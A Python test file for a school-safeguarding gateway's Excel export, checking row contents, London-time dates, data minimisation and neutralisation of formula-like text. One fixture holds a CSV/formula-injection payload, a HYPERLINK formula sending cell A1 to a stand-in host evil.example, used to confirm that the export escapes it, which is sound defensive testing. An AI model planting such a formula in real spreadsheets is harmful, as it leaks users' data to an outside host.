"""The Navigator's record: one row per child, joined with its school's notification and
messages, in London time, with nothing in it a spreadsheet program could run."""

import json
import sqlite3
import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from gateway.audit_export import export_navigator_record, neutralise
from gateway.clock import LONDON
from gateway.intake_store import record_plan
from gateway.model import (
    ChildRecord,
    Decision,
    ExceptionKind,
    Incident,
    Notification,
    Outcome,
    Risk,
    SourceRow,
)
from gateway.notification_store import notification_json
from gateway.plan import Plan
from gateway.store import open_state

# A Sunday evening in summer time: due 09:00 BST on Monday, which is 08:00 UTC.
OCCURRED = datetime(2026, 5, 31, 21, 30, tzinfo=LONDON)
ARRIVAL = datetime(2026, 6, 1, 6, 0, tzinfo=UTC)
DUE = datetime(2026, 6, 1, 9, 0, tzinfo=LONDON)
FORMULA_REF = '=HYPERLINK("http://evil.example/?"&A1,"click")'

HEADERS = [
    "Incident number",
    "Incident date",
    "Child",
    "Date of birth",
    "School",
    "URN",
    "Outcome",
    "Due",
    "Notification",
    "DSL/DA Lead notified",
    "Sealed at",
    "Sent at",
    "Delivery",
    "Exception",
    "Reason",
]


def child(
    forename: str, surname: str, row: int, dob: date | None = date(2016, 4, 2)
) -> ChildRecord:
    return ChildRecord(forename, surname, dob, SourceRow("police.xlsx", "Sheet1", row))


AMY = child("Amy", "Example", 2)
BEN = child("Ben", "Example", 3, date(2012, 9, 9))
CAL = child("Cal", "Sample", 4)
DEE = child("Dee", "Sample", 5)
EVE = child("Eve", "Sample", 6, None)

DATE_ONLY = datetime(2026, 5, 30, tzinfo=LONDON)  # the police gave no time
DECISIONS = (
    Decision(
        "INC-1",
        AMY,
        Outcome.NOTIFY,
        "matched on the roll",
        110001,
        "Elm Primary",
        DUE,
        incident_at=OCCURRED,
    ),
    Decision(
        "INC-1",
        BEN,
        Outcome.NOTIFY,
        "matched on the roll",
        110002,
        "Oak Academy",
        DUE,
        incident_at=OCCURRED,
    ),
    Decision(
        FORMULA_REF,
        CAL,
        Outcome.TELEPHONE,
        "early years: telephone",
        110003,
        "Ash Nursery",
        incident_at=DATE_ONLY,
        incident_time_known=False,
    ),
    Decision(
        FORMULA_REF,
        DEE,
        Outcome.WITHHOLD,
        "school closed: half term",
        110001,
        "Elm Primary",
        incident_at=DATE_ONLY,
        incident_time_known=False,
    ),
    Decision(
        "INC-3",
        EVE,
        Outcome.EXCEPTION,
        "-no date of birth given",
        exception_kind=ExceptionKind.NO_DOB,
    ),
)


def add_notification(
    conn: sqlite3.Connection,
    reference: str,
    decision: Decision,
    *,
    state: str,
    kind: ExceptionKind | None = None,
    reason: str = "",
) -> None:
    assert decision.urn is not None
    incident = Incident(
        decision.incident_ref,
        decision.incident_at,
        Risk.MEDIUM,
        None,
        (),
        circumstances="+44 7700 900123 rang 999",
        time_known=decision.incident_time_known,
    )
    content = notification_json(
        Notification(
            reference, incident, decision.urn, decision.school_name, (decision.child,), DUE
        )
    )
    conn.execute(
        "INSERT INTO notification (reference, intake_id, incident_ref, urn, due, state,"
        " exception_kind, reason, content, created_at) VALUES (?, 1, ?, ?, ?, ?, ?, ?, seal(?), ?)",
        (
            reference,
            decision.incident_ref,
            decision.urn,
            DUE.astimezone(UTC).isoformat(),
            state,
            kind.value if kind else None,
            reason,
            json.dumps(content),
            ARRIVAL.isoformat(),
        ),
    )


def add_message(
    conn: sqlite3.Connection,
    reference: str,
    role: str,
    recipient: str,
    *,
    state: str,
    sent_at: str | None,
    last_error: str = "",
) -> None:
    conn.execute(
        "INSERT INTO message (kind, reference, contact_role, recipient, fingerprint,"
        " message_id, return_path, due, state, attempts, last_error, sealed_at, sent_at,"
        " body) VALUES ('notification', ?, ?, ?, ?, ?, ?, ?, ?, 1, ?, ?, ?, ?)",
        (
            reference,
            role,
            recipient,
            "A" * 40,
            f"<{reference}.{role}@gateway.example>",
            f"bounce+{reference}.{role}@gateway.example",
            DUE.astimezone(UTC).isoformat(),
            state,
            last_error,
            "2026-06-01T06:05:00+00:00",
            sent_at,
            b"sealed",
        ),
    )


@pytest.fixture
def conn(tmp_path: Path) -> Iterator[sqlite3.Connection]:
    connection = open_state(tmp_path / "state.sqlite3")
    record_plan(
        connection, Plan("police.xlsx", "c0" * 32, ARRIVAL, DECISIONS), incidents=3, actor="test"
    )
    connection.execute("BEGIN IMMEDIATE")
    add_notification(connection, "EG-0001", DECISIONS[0], state="sealed")
    add_message(
        connection,
        "EG-0001",
        "dsl",
        "dsl@elm.example",
        state="sent",
        sent_at="2026-06-01T08:00:02+00:00",
    )
    add_message(
        connection,
        "EG-0001",
        "da_lead",
        "da@elm.example",
        state="failed",
        sent_at=None,
        last_error="-451 try again later",
    )
    add_notification(
        connection,
        "EG-0002",
        DECISIONS[1],
        state="exception",
        kind=ExceptionKind.KEY_EXPIRED,
        reason="@the DSL's key expired on 2026-05-01",
    )
    connection.execute("COMMIT")
    yield connection
    connection.close()


@pytest.fixture
def sheet(conn: sqlite3.Connection, tmp_path: Path) -> Worksheet:
    out = tmp_path / "exports" / "record.xlsx"
    assert export_navigator_record(conn, out) == len(DECISIONS)
    worksheet = load_workbook(out).active
    assert isinstance(worksheet, Worksheet)
    return worksheet


def row(sheet: Worksheet, number: int) -> dict[str, object]:
    values = [cell.value for cell in sheet[number]]
    return dict(zip(HEADERS, values, strict=True))


def test_one_row_per_child_under_a_bold_frozen_header(sheet: Worksheet) -> None:
    assert [cell.value for cell in sheet[1]] == HEADERS
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.max_row == 1 + len(DECISIONS)


def test_a_sent_notification_shows_school_contacts_and_london_times(sheet: Worksheet) -> None:
    amy = row(sheet, 2)
    assert amy["Incident number"] == "INC-1"
    assert amy["Incident date"] == datetime(2026, 5, 31, 21, 30)
    assert amy["Child"] == "Amy Example"
    assert amy["Date of birth"] == datetime(2016, 4, 2)
    assert (amy["School"], amy["URN"]) == ("Elm Primary", 110001)
    assert amy["Outcome"] == "notify"
    assert amy["Due"] == datetime(2026, 6, 1, 9, 0)
    assert amy["Notification"] == "EG-0001"
    assert amy["DSL/DA Lead notified"] == (
        "DSL: dsl@elm.example\nDA Lead: da@elm.example (failed: -451 try again later)"
    )
    assert amy["Sealed at"] == datetime(2026, 6, 1, 7, 5)
    assert amy["Sent at"] == datetime(2026, 6, 1, 9, 0, 2)
    assert amy["Delivery"] == "1 failed, 1 sent"


def test_dates_are_real_excel_dates(sheet: Worksheet) -> None:
    for column in ("B", "D", "H", "K", "L"):
        cell = sheet[f"{column}2"]
        assert cell.is_date, column
    assert sheet["B2"].number_format == "dd/mm/yyyy hh:mm"
    assert sheet["D2"].number_format == "dd/mm/yyyy"


def test_a_notification_that_failed_closed_is_an_exception_with_its_reason(
    sheet: Worksheet,
) -> None:
    ben = row(sheet, 3)
    assert ben["Outcome"] == "exception"
    assert ben["Exception"] == "key_expired"
    assert ben["Reason"] == "'@the DSL's key expired on 2026-05-01"
    assert ben["Delivery"] == "exception"
    assert ben["DSL/DA Lead notified"] is None
    assert ben["Sent at"] is None


def test_children_without_a_notification_keep_their_decision(sheet: Worksheet) -> None:
    cal, dee, eve = row(sheet, 4), row(sheet, 5), row(sheet, 6)
    assert (cal["Outcome"], cal["Reason"], cal["Notification"]) == (
        "telephone",
        "early years: telephone",
        None,
    )
    assert dee["Outcome"] == "withhold"
    assert (eve["Outcome"], eve["Exception"]) == ("exception", "no_dob")
    assert eve["Date of birth"] is None
    assert eve["School"] is None and eve["URN"] is None


def test_every_row_carries_its_incident_date(sheet: Worksheet) -> None:
    assert row(sheet, 3)["Incident date"] == datetime(2026, 5, 31, 21, 30)
    assert row(sheet, 6)["Incident date"] is None  # the police gave no date


def test_an_incident_without_a_time_shows_its_date_alone(sheet: Worksheet) -> None:
    assert sheet["B4"].value == datetime(2026, 5, 30)
    assert sheet["B4"].number_format == "dd/mm/yyyy"


def test_formula_like_text_is_neutralised(sheet: Worksheet) -> None:
    assert sheet["A4"].value == "'" + FORMULA_REF
    assert row(sheet, 6)["Reason"] == "'-no date of birth given"
    for cells in sheet.iter_rows():
        for cell in cells:
            assert cell.data_type != "f", cell.coordinate


def test_the_saved_file_holds_no_formula(conn: sqlite3.Connection, tmp_path: Path) -> None:
    out = tmp_path / "record.xlsx"
    export_navigator_record(conn, out)
    with zipfile.ZipFile(out) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            xml = archive.read(name).decode("utf-8")
            assert "<f>" not in xml and "<f " not in xml, name


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_lead_is_neutralised(lead: str) -> None:
    assert neutralise(f"{lead}1+1") == f"'{lead}1+1"


def test_plain_text_is_left_alone_and_control_characters_replaced() -> None:
    assert neutralise("Elm Primary") == "Elm Primary"
    assert neutralise("a\x07b") == "a\ufffdb"


def test_the_circumstances_never_reach_the_record(conn: sqlite3.Connection, tmp_path: Path) -> None:
    out = tmp_path / "record.xlsx"
    export_navigator_record(conn, out)
    with zipfile.ZipFile(out) as archive:
        text = "".join(archive.read(name).decode("utf-8") for name in archive.namelist())
    assert "7700 900123" not in text


def test_an_export_replaces_the_previous_file_whole(
    conn: sqlite3.Connection, tmp_path: Path
) -> None:
    out = tmp_path / "record.xlsx"
    out.write_bytes(b"an older export")
    assert export_navigator_record(conn, out) == len(DECISIONS)
    assert load_workbook(out).active is not None
    assert not list(tmp_path.glob("*partial*"))


def test_an_empty_state_exports_the_header_alone(tmp_path: Path) -> None:
    connection = open_state(tmp_path / "empty.sqlite3")
    out = tmp_path / "record.xlsx"
    assert export_navigator_record(connection, out) == 0
    connection.close()
    sheet = load_workbook(out).active
    assert isinstance(sheet, Worksheet)
    assert sheet.max_row == 1
